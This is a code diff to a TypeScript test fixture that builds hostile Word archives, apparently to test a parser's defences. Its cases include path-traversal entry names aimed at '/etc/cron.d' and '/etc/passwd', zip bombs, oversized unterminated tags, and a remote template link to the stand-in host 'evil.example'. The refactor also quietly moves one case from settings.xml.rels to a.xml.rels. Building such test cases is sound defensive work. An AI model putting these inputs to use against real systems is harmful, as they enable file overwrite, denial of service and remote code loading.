@@ -207,6 +207,14 @@ const relation = (type: string, target: string) =>
   `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
 const zeros = Buffer.alloc(170_000_000)
 
+const longTags = [
+  ['relations that begin and never end', '<Relationship '.repeat(700_000) + ' '.repeat(250_000)],
+  [
+    'a template from elsewhere whose tag is longer than a piece',
+    relation('attachedTemplate', 'http://evil.example/t.dotm').replace('Target=', `${' '.repeat(150_000)}Target=`),
+  ],
+] as const
+
 export const falseOffice = (): HostileFile[] =>
   (
     [
@@ -238,25 +246,7 @@ export const falseOffice = (): HostileFile[] =>
       ['a name that leads out', word({ name: '../../../etc/cron.d/evil', data: 'x' })],
       ['a name that leads out the other way', word({ name: 'word\\..\\..\\evil.txt', data: 'x' })],
       ['a name from the root', word({ name: '/etc/passwd', data: 'x' })],
-      [
-        'relations that begin and never end',
-        word({
-          name: 'word/_rels/a.xml.rels',
-          data: Buffer.from('<Relationship '.repeat(700_000) + ' '.repeat(250_000)),
-        }),
-      ],
-      [
-        'a template from elsewhere whose tag is longer than a piece',
-        word({
-          name: 'word/_rels/settings.xml.rels',
-          data: Buffer.from(
-            relation('attachedTemplate', 'http://evil.example/t.dotm').replace(
-              'Target=',
-              `${' '.repeat(150_000)}Target=`,
-            ),
-          ),
-        }),
-      ],
+      ...longTags.map(([what, data]) => [what, word({ name: 'word/_rels/a.xml.rels', data })] as const),
       ['a bomb by ratio', word({ name: 'word/big.xml', data: zeros })],
       ['a bomb that says it is small', word({ name: 'word/big.xml', data: zeros, claims: 10 })],
       ['a bomb by count', word(...Array.from({ length: 4000 }, (_, i) => ({ name: `word/${i}.xml`, data: '<x/>' })))],
